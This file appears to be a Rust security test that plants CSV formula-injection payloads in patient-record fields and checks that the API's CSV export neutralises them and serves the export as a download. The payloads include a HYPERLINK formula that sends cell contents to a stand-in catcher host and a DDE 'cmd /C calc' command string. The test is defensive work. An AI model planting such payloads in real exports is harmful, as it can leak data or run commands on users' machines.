//! Cells that a spreadsheet would run (CWE-1236).

use crate::attacks::prelude::*;

/// What is read back must be this, with an apostrophe in front where it begins a formula.
struct Planted {
    field: &'static str,
    text: String,
}

/// Everything that a patient's file holds and somebody typed in.
async fn planted(scene: &Scene) -> Result<(Patient, Vec<Planted>), AttackError> {
    let given = r#"=HYPERLINK("http://catcher.test/?"&A1,"Ann, the best")"#;
    let family = "@SUM(1+1)*cmd|' /C calc'!A0";
    let sent = NewPatient { given_name: given.into(), family_name: family.into(), ..NewPatient::unique() };
    let phone = sent.phone.clone();
    let mut body = sent.body();
    if let Some(fields) = body.as_object_mut() {
        fields.insert("metadata".into(), json!({ "=1+1": "-2+3", "wide": "＝1+1", "deep": [" =4+4"] }));
    }
    let made = scene.demand(&scene.actor(RecepA)?.post("/v1/patients").json(&body), 201).await?;
    let id = made.uuid("/id").ok_or_else(|| AttackError::Setup("the new patient has no id".into()))?;
    let patient = Patient { id, sent };
    scene.cares(ClinA1, &patient).await?;
    let clinician = scene.actor(ClinA1)?;
    let notes = "\t=5+5";
    scene.demand(&clinician.patch(&patient.path()).json(&json!({ "notes": notes })), 200).await?;
    let text = "-6+6\n=7+7\n\"quoted\",;=8+8";
    let record = clinician.post(&patient.records_path()).json(&json!({ "kind": "note", "body": text }));
    scene.demand(&record, 201).await?;
    let name = "=HYPERLINK(1).pdf";
    scene.document(RecepA, &NewFile::pdf("a letter").named(name), &patient).await?;
    let planted = |field, text: &str| Planted { field, text: text.to_owned() };
    let all = vec![
        planted("given_name", given),
        planted("family_name", family),
        planted("phone", &phone),
        planted("metadata.=1+1", "-2+3"),
        planted("metadata.wide", "＝1+1"),
        planted("metadata.deep.0", " =4+4"),
        planted("notes", notes),
        planted("body", text),
        planted("name", name),
    ];
    Ok((patient, all))
}

/// The file as any reader of RFC 4180 has it: section, id, field, value.
fn lines(answer: &Answer) -> Option<Vec<Vec<String>>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(answer.body.as_slice());
    let lines = reader.records().map(|line| Some(line.ok()?.iter().map(str::to_owned).collect::<Vec<_>>()));
    lines.collect::<Option<Vec<_>>>().filter(|lines| lines.iter().all(|line| line.len() == 4))
}

fn is_formula(cell: &str) -> bool {
    cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(['\t', '\r', '\n'])
}

fn is_inert(answer: &Answer, planted: &[Planted]) -> Finding {
    let Some(lines) = lines(answer).filter(|_| answer.status == 200) else {
        return Finding::Unclear(format!("no CSV: {}", answer.summary()));
    };
    if let Some(formula) = lines.iter().flatten().find(|cell| is_formula(cell)) {
        return Finding::Breach(format!(
            "a cell begins with {:?}",
            formula.chars().take(8).collect::<String>()
        ));
    }
    let is_there = |planted: &Planted| {
        let (raw, escaped) = (&planted.text, format!("'{}", planted.text));
        lines.iter().any(|line| match line.as_slice() {
            [_, _, field, value] => field == planted.field && (value == raw || *value == escaped),
            _ => false,
        })
    };
    match planted.iter().find(|planted| !is_there(planted)) {
        Some(missing) => Finding::Unclear(format!("{} is not in the file", missing.field)),
        None => Finding::Fine,
    }
}

fn is_to_be_saved(answer: &Answer, patient: &Patient) -> Finding {
    let wanted = [
        ("content-disposition", format!("attachment; filename*=UTF-8''patient-{}.csv", patient.id)),
        ("content-type", "text/csv; charset=utf-8; header=present".into()),
        ("x-content-type-options", "nosniff".into()),
        ("cache-control", "no-store".into()),
    ];
    let odd = wanted.iter().find(|(name, value)| answer.header_all(name) != [value.as_str()]);
    Finding::must(odd.is_none(), format!("not as a download: {:?}", odd.map(|(name, _)| *name)))
}

pub(super) async fn formula(scene: &Scene) -> Outcome {
    let (patient, planted) = planted(scene).await?;
    let honest = Control::checked(move || async move {
        let fetched = async {
            let ann = scene.patient().await?;
            let export = scene.approved_export(RecepA, &ann, "csv").await?;
            let answer = scene.demand(&export.download(scene)?, 200).await?;
            let name = |line: &Vec<String>| line.get(3) == Some(&ann.sent.family_name);
            Ok(lines(&answer).is_some_and(|lines| lines.iter().any(name)))
        };
        match fetched.await {
            Ok(true) => Ok(()),
            Ok(false) => Err("an honest name is not in the file".to_owned()),
            Err(error) => Err(AttackError::to_string(&error)),
        }
    });
    let mut trial = Trial::begin(scene, honest).await?;
    let export = trial.honestly(scene.approved_export(ClinA1, &patient, "csv")).await?;
    let fetches = export.download(scene)?;
    trial
        .check("what a spreadsheet opens", fetches, |answer| {
            is_inert(answer, &planted).and(is_to_be_saved(answer, &patient))
        })
        .await;
    trial.conclude().await
}
